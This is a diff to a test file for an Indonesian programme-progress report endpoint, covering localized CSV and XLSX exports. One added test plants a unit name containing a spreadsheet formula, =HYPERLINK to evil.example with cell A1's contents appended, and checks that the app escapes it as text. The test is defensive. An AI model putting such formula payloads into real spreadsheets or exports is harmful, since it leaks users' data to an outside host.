@@ -1,3 +1,4 @@
+import ExcelJS from 'exceljs';
 import { buildTestApp, expectProblem, type TestApp } from '../helpers/app';
 import { seedPeriod } from '../helpers/asistensi';
 
@@ -55,21 +56,56 @@ it('reports every unit’s officials, drafts and asistensi, as JSON and as CSV',
     asistensi: { attended: 1, walk_in: 1, booked: 0, none: 1 },
   });
 
+  // A spreadsheet in Indonesian by default: local dates and times, the programme's name.
   const csv = await t.organiser.get(`/programmes/${programme.id}/progress?format=csv`);
   expect(csv.status).toBe(200);
   expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
-  expect(csv.headers['content-disposition']).toContain('attachment');
+  expect(csv.headers['content-disposition']).toBe(`attachment; filename="progres-program-${programme.id}.csv"`);
   const lines = (csv.body as string).replace(/^\uFEFF/, '').split('\r\n');
-  expect(lines[0]).toBe('code,name,kind,participantsConfirmed,participantsAttended,draftCount,draftStatus,draftReceivedAt,asistensi,asistensiDate,asistensiStart');
-  expect(lines[1]).toBe('DISHUB,Dinas Perhubungan,dinas,3,1,2,final,2013-09-20T09:00:00+08:00,attended,2013-10-22,13:00');
-  expect(lines[2]).toBe('KEL-TD,"Kelurahan Teluk Dalam, Banjarmasin Tengah",kelurahan,0,0,0,,,walk_in,2013-10-23,');
+  expect(lines[0]).toBe('Program,Kode unit,Nama unit,Jenis,Pejabat terdaftar,Pejabat hadir,Jumlah draft,Status draft,Draft diterima,Asistensi,Jadwal asistensi');
+  expect(lines[1]).toBe('Penyusunan SOP 2013,DISHUB,Dinas Perhubungan,dinas,3,1,2,final,2013-09-20 09:00,hadir,2013-10-22 13:00');
+  expect(lines[2]).toBe('Penyusunan SOP 2013,KEL-TD,"Kelurahan Teluk Dalam, Banjarmasin Tengah",kelurahan,0,0,0,,,datang langsung,2013-10-23');
   expect(lines).toHaveLength(5);
+  const english = ((await t.organiser.get(`/programmes/${programme.id}/progress?format=csv&lang=en`)).body as string).split('\r\n');
+  expect(english[0]).toBe('\uFEFFProgramme,Unit code,Unit name,Kind,Officials confirmed,Officials attended,Drafts,Draft status,Draft received,Asistensi,Asistensi at');
+  expect(english[1]).toContain(',attended,2013-10-22 13:00');
+
+  // And as XLSX: one sheet of units with date cells, one of totals.
+  const xlsx = await t.app.inject({ url: `/programmes/${programme.id}/progress?format=xlsx`, headers: { authorization: `Bearer ${t.organiserKey}` } });
+  expect(xlsx.statusCode).toBe(200);
+  expect(xlsx.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
+  const workbook = new ExcelJS.Workbook();
+  await workbook.xlsx.load(xlsx.rawPayload as never);
+  const units = workbook.getWorksheet('Unit kerja')!;
+  expect(units.getRow(1).getCell(2).value).toBe('Kode unit');
+  expect(units.getRow(2).getCell(2).value).toBe('DISHUB');
+  expect(units.getRow(2).getCell(5).value).toBe(3);
+  expect(units.getRow(2).getCell(9).value).toEqual(new Date(Date.UTC(2013, 8, 20, 9, 0)));
+  expect(units.getRow(2).getCell(11).value).toEqual(new Date(Date.UTC(2013, 9, 22, 13, 0)));
+  expect(units.getColumn(3).width).toBeGreaterThan(20);
+  const summary = workbook.getWorksheet('Ringkasan')!;
+  expect([summary.getRow(1).values, summary.getRow(2).values].map((v) => (v as unknown[]).slice(1))).toEqual([
+    ['Unit kerja', 3],
+    ['Pejabat terdaftar', 3],
+  ]);
+});
+
+it('writes names that look like formulas as text in its spreadsheets', async () => {
+  const programme = await t.make.programme();
+  await t.make.unit({ code: 'EVIL', name: '=HYPERLINK("http://evil.example/?"&A1,"klik")' });
+  const csv = (await t.organiser.get(`/programmes/${programme.id}/progress?format=csv`)).body as string;
+  expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""klik"")"`);
+  const xlsx = await t.app.inject({ url: `/programmes/${programme.id}/progress?format=xlsx`, headers: { authorization: `Bearer ${t.organiserKey}` } });
+  const workbook = new ExcelJS.Workbook();
+  await workbook.xlsx.load(xlsx.rawPayload as never);
+  expect(workbook.getWorksheet('Unit kerja')!.getRow(2).getCell(3).value).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"klik")`);
 });
 
 it('is organiser-only and checks its input', async () => {
   const programme = await t.make.programme();
   const unit = await t.make.unit();
   expectProblem(await t.as(t.unitKey(unit.id)).get(`/programmes/${programme.id}/progress`), 403, 'FORBIDDEN');
-  expectProblem(await t.organiser.get(`/programmes/${programme.id}/progress?format=xlsx`), 400, 'VALIDATION_FAILED');
+  expectProblem(await t.organiser.get(`/programmes/${programme.id}/progress?format=pdf`), 400, 'VALIDATION_FAILED');
+  expectProblem(await t.organiser.get(`/programmes/${programme.id}/progress?format=csv&lang=fr`), 400, 'VALIDATION_FAILED');
   expectProblem(await t.organiser.get('/programmes/99/progress'), 404, 'NOT_FOUND');
 });
